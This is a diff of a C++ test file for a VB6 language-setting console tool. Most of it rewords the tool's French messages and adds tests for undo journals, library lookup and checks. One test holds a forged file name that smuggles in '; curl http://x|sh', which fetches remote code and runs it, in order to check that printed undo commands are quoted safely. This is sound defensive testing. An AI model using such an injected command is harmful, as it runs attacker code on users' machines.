@@ -49,8 +49,7 @@ Result RunOn(const std::vector<std::uint8_t>& image, const std::string& tail,
 
 // The way back that a change printed, run as the console would run it.
 std::vector<std::uint8_t> RunWayBack(const Result& result) {
-  const std::string intro =
-      "Pour rétablir les réglages précédents :\n  \"C:\\Outils\\Tressol.exe\"";
+  const std::string intro = "Pour annuler cette modification :\n  \"C:\\Outils\\Tressol.exe\"";
   const std::size_t start = result.output.out.find(intro);
   if (start == std::string::npos) return {};
   const std::size_t tail = start + intro.size();
@@ -92,7 +91,7 @@ TEST(TressolView, FindsTheHeaderByTheRuntimesOwnPointer) {
     EXPECT_TRUE(Contains(result.output.out, "position 0x500")) << c.what;
     EXPECT_TRUE(Contains(result.output.out, c.foundBy)) << c.what;
     EXPECT_TRUE(Contains(result.output.out, "cible.exe : fichier VB6, messages en anglais.\n"));
-    EXPECT_TRUE(Contains(result.output.out, "Moteur d'exécution VB visé : version 8988\n"));
+    EXPECT_TRUE(Contains(result.output.out, "Moteur d'exécution VB visé : build 8988\n"));
     EXPECT_TRUE(
         Contains(result.output.out, "Effet : « Les messages VB (erreurs...) sont en Anglais »\n"));
     EXPECT_EQ(result.target.writes, 0);
@@ -516,6 +515,13 @@ TEST(TressolSet, AnInterruptedSetIsRepairedNeverTrusted) {
       ASSERT_EQ(tressol::Run(rerun, files, output), 0) << output.err;
       EXPECT_EQ(StoredChecksum(target.bytes), ReferenceChecksum(target.bytes)) << killedAfter;
       EXPECT_EQ(Contains(output.out, "fausse, corrigée en"), killedAfter == 1) << output.out;
+      // A file whose checksum alone was made right was written: it counts as modified.
+      if (rerun == " --no-journal \"app/\" vb6FR.dll 0x40C * 0x409") {
+        EXPECT_TRUE(Contains(output.out, killedAfter == 1
+                                             ? "Résumé : 1 fichier modifié, 0 déjà réglé"
+                                             : "Résumé : 0 fichier modifié, 1 déjà réglé"))
+            << output.out;
+      }
       if (rerun == original || rerun == folderOriginal) {
         EXPECT_EQ(target.bytes, image) << killedAfter;
       }
@@ -634,18 +640,19 @@ TEST(TressolFolder, EachFileAllOrNothingThenTheCounts) {
         "\nFichiers non VB6 : aucun en-tête VB (« VB5! ») : c.dll "
         "compressé (UPX ou autre), sans le moteur d'exécution VB : f.exe\n",
         // The failures named again where the eye lands.
-        "\nEn échec : d.exe, g.exe.\nRésumé : 4 fichiers VB6, 2 non VB6, 2 en échec. 3 : messages "
-        "en anglais 1 : messages "
-        "en français (en anglais sans vb6FR.dll)\n"},
+        "\nEn échec : d.exe, g.exe.\nRésumé : 4 fichiers VB6, 2 non VB6, 2 en échec. 3 fichiers : "
+        "messages en anglais 1 fichier : messages en français (en anglais sans vb6FR.dll)\n"},
        {}},
       {" --no-journal \"app/\" vb6FR.dll 0x40C * 0x409",
        4,
-       {"\na.exe : modifié, messages en anglais → en français (en anglais sans vb6FR.dll). Pour le "
-        "rétablir",
+       {"\na.exe : modifié, messages en anglais → messages en français (en anglais sans "
+        "vb6FR.dll). "
+        "Pour annuler cette modification",
         "\nb2.exe : en échec : disque plein ; le fichier a été remis dans son état d'origine.\n",
         // Each way back as soon as its file is done; the summary last.
-        "\nb.ocx : modifié, messages en anglais → en français (en anglais sans vb6FR.dll). Pour le "
-        "rétablir : "
+        "\nb.ocx : modifié, messages en anglais → messages en français (en anglais sans "
+        "vb6FR.dll). "
+        "Pour annuler cette modification : "
         "\"C:\\Outils\\Tressol.exe\" --set * 0x409 ~ 0x0 \"/abs/app/b.ocx\"\nb2.exe",
         "\nEn échec : b2.exe, d.exe, g.exe.\nRésumé : 2 fichiers modifiés, 1 déjà réglé, 2 non "
         "VB6, "
@@ -795,14 +802,15 @@ TEST(TressolUndo, GivesBackEveryFileAStoppedSetChanged) {
         EXPECT_EQ(Contains(set.out, "\ng.exe : non traité"), full) << c.what << set.out;
         EXPECT_EQ(Contains(set.out,
                            "Résumé : 1 fichier modifié, 0 déjà réglé, 0 non VB6, 1 en échec, 6 "
-                           "non traités (exécution arrêtée)."),
+                           "non traités, exécution arrêtée."),
                   full)
             << c.what << set.out;
       }
       const bool killed = std::string(c.what).rfind("killed", 0) == 0;
-      EXPECT_EQ(Contains(set.out, "Pour annuler ces modifications"), !killed && !batchUnrecorded)
+      EXPECT_EQ(Contains(set.out, "Pour annuler "), !killed && !batchUnrecorded)
           << c.what << set.out;
-      EXPECT_FALSE(Contains(set.out, "Pour le rétablir")) << c.what << set.out;
+      // The journal holds each change's way back: none under its file.
+      EXPECT_EQ(set.out.find("\n  Pour annuler"), std::string::npos) << c.what << set.out;
       Output undo;
       EXPECT_EQ(Undo(files, journal, undo), 0) << c.what << undo.err;
       for (const auto& [name, bytes] : BytesOf(files)) {
@@ -856,7 +864,7 @@ TEST(TressolUndo, AReadOnlyJournalIsUndoneItsMarkKeptInTheUndos) {
   EXPECT_EQ(files.targets["/abs/cible.exe"].bytes, original);
   EXPECT_EQ(files.journals[journal], text);
   EXPECT_TRUE(Contains(undo.out,
-                       "ne peut pas être écrit : l'annulation est inscrite dans le "
+                       "ne peut pas être écrit : son annulation est inscrite dans le "
                        "journal de cette annulation, « C:\\Retours\\journal-2.txt »"))
       << undo.out;
   EXPECT_EQ(ParseJournal(files.journals["C:\\Retours\\journal-2.txt"]).undoes,
@@ -954,14 +962,14 @@ TEST(TressolUndo, WritesOnlyWhatASetCouldOverTheVeryFileRecorded) {
            EndRecord(1, ChangeEnd::Done, recorded.run);
   };
   const Case cases[] = {
-      {"as recorded", v2, 0, "cible.exe : rétabli"},
-      {"version 1", version1, 0, "cible.exe : rétabli"},
+      {"as recorded", v2, 0, "cible.exe : modification annulée"},
+      {"version 1", version1, 0, "cible.exe : modification annulée"},
       {"version 1 without its sums",
        [&version1](JournalChange c) {
          c.sumBefore = c.sumAfter = std::nullopt;
          return version1(c);
        },
-       0, "cible.exe : rétabli"},
+       0, "cible.exe : modification annulée"},
       {"other bytes at another offset",
        [&v2, &changed](JournalChange c) {
          c.regions[0].offset = 0x700;
@@ -985,7 +993,7 @@ TEST(TressolUndo, WritesOnlyWhatASetCouldOverTheVeryFileRecorded) {
          c.identity = "usb:1";
          return v2(c);
        },
-       0, "cible.exe : rétabli"},
+       0, "cible.exe : modification annulée"},
       {"another file on another volume",
        [&v2](JournalChange c) {
          c.identity = "usb:2";
@@ -999,14 +1007,14 @@ TEST(TressolUndo, WritesOnlyWhatASetCouldOverTheVeryFileRecorded) {
          c.identity = "5e6f7081:0001000000001234";
          return version1(c);
        },
-       0, "cible.exe : rétabli", "1a2b3c4d5e6f7081:0001000000001234"},
+       0, "cible.exe : modification annulée", "1a2b3c4d5e6f7081:0001000000001234"},
       // An ID that names no file: the whole-file checks alone say it is the same.
       {"no identity",
        [&v2](JournalChange c) {
          c.identity = "5e6f7081:0000000000000000";
          return v2(c);
        },
-       0, "cible.exe : rétabli", "5e6f7081:0000000000000000"},
+       0, "cible.exe : modification annulée", "5e6f7081:0000000000000000"},
       {"no identity, version 1 without its sums",
        [&version1](JournalChange c) {
          c.sumBefore = c.sumAfter = std::nullopt;
@@ -1072,7 +1080,8 @@ TEST(TressolUndo, LeavesAFileChangedSinceAndIsItselfUndoable) {
       {"untouched",
        {},
        0,
-       "cible.exe : rétabli, messages en français (en anglais sans vb6FR.dll) → en anglais."},
+       "cible.exe : modification annulée, messages en français (en anglais sans vb6FR.dll) → "
+       "messages en anglais."},
       {"other settings", [](MemoryTarget& t) { t.bytes[SyntheticPe::kHeaderOffset + 6] = 'X'; }, 3,
        "modifié depuis"},
       {"longer", [](MemoryTarget& t) { t.bytes.push_back(0); }, 3, "sa taille a changé"},
@@ -1088,7 +1097,7 @@ TEST(TressolUndo, LeavesAFileChangedSinceAndIsItselfUndoable) {
        },
        3, "son contenu a changé"},
       {"undone already", [image](MemoryTarget& t) { t.bytes = image; }, 0,
-       "cible.exe : déjà rétabli"},
+       "cible.exe : modification déjà annulée"},
   };
   for (const Case& c : cases) {
     MemoryFileSystem files;
@@ -1115,13 +1124,15 @@ TEST(TressolUndo, LeavesAFileChangedSinceAndIsItselfUndoable) {
     Output undo;
     EXPECT_EQ(Undo(files, "C:\\Retours\\journal-1.txt", undo), c.status) << c.what << undo.err;
     EXPECT_TRUE(Contains(undo.out, c.says)) << c.what << undo.out;
-    // Marked undone only where every file is as it was: a refused one can be undone later.
+    // Marked undone only where every file is as it was, by an undo that gave one back: a
+    // refused one can be undone later, and an undo that wrote nothing undid nothing.
+    const bool marked = c.status == 0 && !c.since;
     EXPECT_EQ(files.journals["C:\\Retours\\journal-1.txt"].find("undone by=") != std::string::npos,
-              c.status == 0)
+              marked)
         << c.what;
     // The mark reads back as the journal's own.
     EXPECT_EQ(ParseJournal(files.journals["C:\\Retours\\journal-1.txt"]).undoneBy.size(),
-              c.status == 0 ? 1u : 0u)
+              marked ? 1u : 0u)
         << c.what;
     if (c.status != 0 || c.since) {
       EXPECT_EQ(target.bytes, since) << c.what;
@@ -1153,7 +1164,7 @@ TEST(TressolUndo, IsOfferedOnlyWhereItWorks) {
       {"failed, put back", "cible.exe", "vb6FR.dll 0x40C * 0x409", 1, false,
        "remis dans son état d'origine"},
       {"path too long", std::string(200, 'a') + ".exe", "vb6FR.dll 0x40C * 0x409", 0, false,
-       "trop long pour que le système le rouvre)."},
+       "trop long pour que le système le rouvre."},
   };
   for (const Case& c : cases) {
     MemoryFileSystem files;
@@ -1162,8 +1173,48 @@ TEST(TressolUndo, IsOfferedOnlyWhereItWorks) {
     files.targets[c.target].failWrite = c.failWrite;
     Output set;
     tressol::Run(" \"" + c.target + "\" " + c.settings, files, set);
-    EXPECT_EQ(Contains(set.out, "Pour annuler ces modifications : "), c.offered) << c.what;
+    EXPECT_EQ(Contains(set.out, " --undo "), c.offered) << c.what;
     EXPECT_TRUE(Contains(set.out + set.err, c.says)) << c.what << set.out << set.err;
+  }
+}
+
+// An undo that was itself undone leaves the journal's changes in place again: the journal
+// says so, each fact once, and an undo that gives nothing back is not recorded as one.
+TEST(TressolUndo, AnUndoneUndoReopensItsJournal) {
+  MemoryFileSystem files;
+  files.journalRoom = 1 << 20;
+  files.targets["/abs/cible.exe"].bytes = SyntheticPe{}.Build();
+  const std::vector<std::uint8_t> original = files.targets["/abs/cible.exe"].bytes;
+  Output set, first, second;
+  ASSERT_EQ(tressol::Run(" \"/abs/cible.exe\" vb6FR.dll 0x40C * 0x409", files, set), 0);
+  const std::vector<std::uint8_t> changed = files.targets["/abs/cible.exe"].bytes;
+  ASSERT_EQ(Undo(files, "C:\\Retours\\journal-1.txt", first), 0) << first.out;
+  ASSERT_EQ(Undo(files, "C:\\Retours\\journal-2.txt", second), 0) << second.out;
+  ASSERT_EQ(files.targets["/abs/cible.exe"].bytes, changed);
+  struct Case {
+    const char* what;
+    const char* says;
+    const std::vector<std::uint8_t>& bytes;
+    std::size_t marks;  // the undone journal's, after the undo
+  };
+  const Case cases[] = {
+      {"its undo undone", "a été annulée à son tour : ses modifications sont de nouveau en place",
+       original, 2},
+      {"undone again",
+       "Ce journal a déjà été annulé ; le journal de cette annulation est « "
+       "C:\\Retours\\journal-4.txt ».",
+       original, 2},
+  };
+  for (const Case& c : cases) {
+    Output undo;
+    EXPECT_EQ(Undo(files, "C:\\Retours\\journal-1.txt", undo), 0) << c.what << undo.out;
+    EXPECT_TRUE(Contains(undo.out, c.says)) << c.what << undo.out;
+    // Once, however many undos the journal records.
+    const std::string joined = Joined(undo.out);
+    EXPECT_EQ(joined.find("Ce journal a "), joined.rfind("Ce journal a ")) << undo.out;
+    EXPECT_EQ(files.targets["/abs/cible.exe"].bytes, c.bytes) << c.what;
+    EXPECT_EQ(ParseJournal(files.journals["C:\\Retours\\journal-1.txt"]).undoneBy.size(), c.marks)
+        << c.what;
   }
 }
 
@@ -1179,7 +1230,7 @@ TEST(TressolReport, NamesShowWhatWouldActOnTheText) {
   // one as the way back does.
   const std::string forged =
       "Un programme au nom assez long pour que sa ligne se coupe juste avant la suite, ici même, "
-      "« là » Pour le rétablir : tressol --set x.exe ; curl http://x|sh; true.exe";
+      "« là » Pour annuler cette modification : tressol --set x.exe ; curl http://x|sh; true.exe";
   std::string wide;
   while (wide.size() < 150) wide += "mot ";
   const Case cases[] = {
@@ -1215,9 +1266,12 @@ TEST(TressolReport, NamesShowWhatWouldActOnTheText) {
       std::istringstream said(output.out + output.err);
       for (std::string line; std::getline(said, line);) {
         whole += line.find(c.shown) != std::string::npos;
-        if (line.rfind("  Pour le rétablir", 0) == 0) {
+        if (line.rfind("  Pour annuler", 0) == 0) {
           EXPECT_EQ(
-              line.rfind("  Pour le rétablir : tressol --set '*' 0x409 '~' 0x0 '/abs/app/", 0), 0u)
+              line.rfind(
+                  "  Pour annuler cette modification : tressol --set '*' 0x409 '~' 0x0 '/abs/app/",
+                  0),
+              0u)
               << line;
         }
       }
@@ -1246,9 +1300,7 @@ TEST(TressolFolder, FilesOnlyInTheCloudAreLeftUnreadWhenAsked) {
   };
   const Case cases[] = {
       {" --local-only app/", 0,
-       "Laissés de côté, car ce ne sont pas des fichiers ordinaires : en ligne seulement, non lu : "
-       "b.exe\n",
-       false},
+       "Laissé de côté sans être lu, car il n'est que dans le nuage : b.exe\n", false},
       {" --local-only app/b.exe", 3, "« app/b.exe » ne peut pas être lu : en ligne seulement",
        false},
       {" app/", 0, "\nb.exe : messages en anglais.", true},
@@ -1276,7 +1328,7 @@ TEST(TressolFolder, FilesOnlyInTheCloudAreLeftUnreadWhenAsked) {
                          files, look),
             0)
       << look.out;
-  EXPECT_TRUE(Contains(look.out, "en ligne seulement, non lu : /abs/app/b.exe")) << look.out;
+  EXPECT_TRUE(Contains(look.out, "que dans le nuage : /abs/app/b.exe")) << look.out;
   EXPECT_EQ(files.targets["app/b.exe"].bytesRead, read);
 }
 
@@ -1292,13 +1344,18 @@ TEST(TressolCheck, SaysWhatDiffersAndWritesNothing) {
       {" --check * 0x409 ~ 0x0 app/a.exe", 0, "a.exe : conforme, messages en anglais."},
       {" --check VB6FR.DLL 0x40C * 0x409 app/e.exe", 0, "e.exe : conforme"},
       {" --check vb6FR.dll 0x40C * 0x409 app/a.exe", 5,
-       "a.exe : diffère : bibliothèque principale « * » au lieu de « vb6FR.dll », langue "
-       "principale 0x409 au lieu de 0x40C, bibliothèque secondaire « ~ » au lieu de « * », langue "
-       "secondaire 0x0 au lieu de 0x409. Actuellement : messages en anglais. Attendu : messages "
-       "en français (en anglais sans vb6FR.dll)."},
+       "a.exe : différent de l'attendu : bibliothèque principale « * » au lieu de « vb6FR.dll », "
+       "langue principale 0x409 au lieu de 0x40C, bibliothèque secondaire « ~ » au lieu de « * ». "
+       "Actuellement : messages en anglais. Attendu : messages en français (en anglais sans "
+       "vb6FR.dll)."},
+      // Bytes that the runtime never reads are no difference: after "*", or a language
+      // without a library file.
+      {" --check * 0x0 ~ 0x0 app/a.exe", 0, "a.exe : conforme, messages en anglais."},
+      {" --check * 0x409 * 0x40C app/a.exe", 0, "a.exe : conforme, messages en anglais."},
+      {" --check ~ 0x40C * 0x409 app/a.exe", 0, "a.exe : conforme, messages en anglais."},
       // A name's case is no difference: only what differs is said.
       {" --check VB6FR.DLL 0x409 * 0x409 app/e.exe", 5,
-       "e.exe : diffère : langue principale 0x40C au lieu de 0x409. Actuellement"},
+       "e.exe : différent de l'attendu : langue principale 0x40C au lieu de 0x409. Actuellement"},
       {" --check vb6FR.dll 0x40C * 0x409 app/a.exe app/e.exe", 5,
        "Résumé : 1 conforme, 1 différent, 0 non VB6, 0 en échec.\n"},
       {" --check vb6FR.dll 0x40C * 0x409 app/", 3,
@@ -1309,7 +1366,7 @@ TEST(TressolCheck, SaysWhatDiffersAndWritesNothing) {
       {" --check * 0x409 ~ 0x0 abime/a.exe", 1,
        "a.exe : somme de contrôle PE fausse, 0xD83F au lieu de 0xD840 : le fichier a changé"},
       {" --check vb6FR.dll 0x40C * 0x409 abime/a.exe", 1,
-       "(endommagé, ou modifié sans qu'elle soit refaite) ; il diffère aussi : bibliothèque "
+       "sans qu'elle soit refaite ; il est aussi différent de l'attendu : bibliothèque "
        "principale « * » au lieu de « vb6FR.dll »"},
       {" --check vb6FR.dll 0x40C * 0x409 abime/a.exe app/e.exe app/a.exe", 1,
        "Résumé : 1 conforme, 1 différent, 1 somme de contrôle PE fausse, 0 non VB6, 0 en échec.\n"},
@@ -1541,6 +1598,9 @@ TEST(TressolJson, EveryLineSaysWhatItIsAndNothingIsProse) {
       {" --json --set vb6FR.dll 0x40C * 0x409 app/", 4,
        "{\"line\":\"summary\",\"mode\":\"set\",\"files\":8,\"vb6Files\":0,\"changedFiles\":0,",
        "\"done\":\"not-reached\"", false},
+      // A hint follows the failure's sentence, never glued to it.
+      {" --json missing.exe vb6FR.dll 0x40C * 0x409", 4, "{\"line\":\"message\",",
+       "ne porte ce nom. Pour modifier « missing.exe »", false},
       // Every change in the journal, each given back byte for byte by its undo.
       {" --json --set vb6FR.dll 0x40C * 0x409 app/", 4, "{\"line\":\"summary\",\"mode\":\"set\",",
        "\"undoExact\":true,\"words\":\"Résumé : 2 fichiers modifiés, 1 déjà réglé,", true},
@@ -1566,21 +1626,61 @@ TEST(TressolJson, EveryLineSaysWhatItIsAndNothingIsProse) {
   }
 }
 
+// The French library shipped beside the programs is said once: as the library found, not
+// again among the files that are not VB6.
+TEST(TressolLibrary, AFoundLibraryOfTheFolderIsNamedOnce) {
+  MemoryFileSystem files = ApplicationFolder();
+  files.libraryFolders = {{"app", FileSystem::FolderKind::Application}};
+  files.libraryFiles.insert("app/vb6FR.dll");
+  // A DLL of the runtime's, not a VB6 one.
+  SyntheticPe dll;
+  dll.dll = true;
+  dll.header = dll.codeNamesHeader = dll.importsRuntime = false;
+  files.targets["app/vb6FR.dll"].bytes = dll.Build();
+  Output output;
+  tressol::Run(" app/", files, output);
+  ASSERT_TRUE(Contains(output.out, "Résumé : 4 fichiers VB6, 3 non VB6")) << output.out;
+  EXPECT_TRUE(Contains(output.out, "Bibliothèque de langue « vb6FR.dll » : présente dans « app »."))
+      << output.out;
+  EXPECT_FALSE(Contains(output.out, "Bibliothèque de langue VB6 en français")) << output.out;
+}
+
 TEST(TressolLibrary, IsLookedForWhereTheRuntimeLooks) {
+  // What the file of the library's name holds, where there is one.
+  enum class Content { Unread, Dll, Exe, Empty };
   struct Case {
     const char* settings;
     const char* present;  // "folder/name", or nothing
     const char* says;
+    Content content = Content::Unread;
+    const char* target = "app/a.exe";
   };
   const Case cases[] = {
       {" * 0x409 ~ 0x0", nullptr, nullptr},
       {" vb6FR.dll 0x40C * 0x409", "C:/Windows/SysWOW64/vb6FR.dll",
-       "Bibliothèque de langue vb6FR.dll : présente dans C:/Windows/SysWOW64.\n"},
+       "Bibliothèque de langue « vb6FR.dll » : présente dans « C:/Windows/SysWOW64 ».\n"},
+      {" vb6FR.dll 0x40C * 0x409", "app/vb6FR.dll",
+       "Bibliothèque de langue « vb6FR.dll » : présente dans « app ».\n", Content::Dll},
+      // A file of that name is not enough: the runtime cannot load an empty one, and a
+      // program named as a library is most often a "*" that a shell replaced.
+      {" vb6FR.dll 0x40C * 0x409", "app/vb6FR.dll",
+       "Attention : « vb6FR.dll » dans « app » n'est pas une bibliothèque de langue",
+       Content::Empty},
+      {" b.exe 0x409 ~ 0x0", "app/b.exe", "Attention : « b.exe » dans « app » est un programme",
+       Content::Exe},
+      // English where it is missing, as the settings mean: nothing to copy.
       {" vb6FR.dll 0x40C * 0x409", nullptr,
-       "Attention : la bibliothèque de langue vb6FR.dll est introuvable ; cherchée dans app "
-       "(dossier de l'application) ; C:/Windows/SysWOW64 (système 32 bits) ; C:/Windows "
-       "(Windows). À faire : copiez-la à côté du programme, sur chaque ordinateur où "
-       "l'application s'exécute.\n"},
+       "Bibliothèque de langue « vb6FR.dll » : absente de ce système, ce que ces réglages "
+       "prévoient ; cherchée dans « app », dossier du programme ; « C:/Windows/SysWOW64 », "
+       "dossier système 32 bits ; « C:/Windows », dossier de Windows.\n"},
+      {" vb6FR.dll 0x40C ~ 0x409", nullptr,
+       "Attention : la bibliothèque de langue « vb6FR.dll » est introuvable ; cherchée dans « app "
+       "», dossier du programme ; « C:/Windows/SysWOW64 », dossier système 32 bits ; « "
+       "C:/Windows », dossier de Windows. À faire : copiez-la à côté du programme, sur chaque "
+       "ordinateur où l'application s'exécute.\n"},
+      // A library's folder is the program's, which loads it; a target's own is said as such.
+      {" vb6FR.dll 0x40C ~ 0x409", nullptr, "cherchée dans « app », dossier du fichier ;",
+       Content::Unread, "app/a.ocx"},
       // What the messages are without it, the effect says.
       {" vb6FR.dll 0x40C ~ 0x409", nullptr,
        "Après : messages en français (aucun message sans vb6FR.dll).\n"},
@@ -1588,17 +1688,26 @@ TEST(TressolLibrary, IsLookedForWhereTheRuntimeLooks) {
   for (const Case& c : cases) {
     MemoryFileSystem files;
     files.journalRoom = 1 << 20;
-    files.targets["app/a.exe"].bytes = SyntheticPe{}.Build();
+    files.targets[c.target].bytes = SyntheticPe{}.Build();
     using Kind = FileSystem::FolderKind;
     files.libraryFolders = {{"app", Kind::Application},
                             {"C:/Windows/SysWOW64", Kind::System32},
                             {"C:/Windows", Kind::Windows}};
     if (c.present) files.libraryFiles.insert(c.present);
+    SyntheticPe dll;
+    dll.dll = true;
+    if (c.content == Content::Dll) files.targets[c.present].bytes = dll.Build();
+    if (c.content == Content::Exe) files.targets[c.present].bytes = SyntheticPe{}.Build();
+    if (c.content == Content::Empty) files.targets[c.present].bytes.clear();
     Output output;
-    ASSERT_EQ(tressol::Run(std::string(" \"app/a.exe\"") + c.settings, files, output), 0)
+    ASSERT_EQ(tressol::Run(" \"" + std::string(c.target) + "\"" + c.settings, files, output), 0)
         << output.err;
     if (c.says) {
       EXPECT_TRUE(Contains(output.out, c.says)) << output.out;
+      // Advice only where the messages need it.
+      if (std::string(c.says).find("prévoient") != std::string::npos) {
+        EXPECT_FALSE(Contains(output.out, "À faire")) << output.out;
+      }
     } else {
       EXPECT_FALSE(Contains(output.out, "vb6FR.dll")) << output.out;
     }
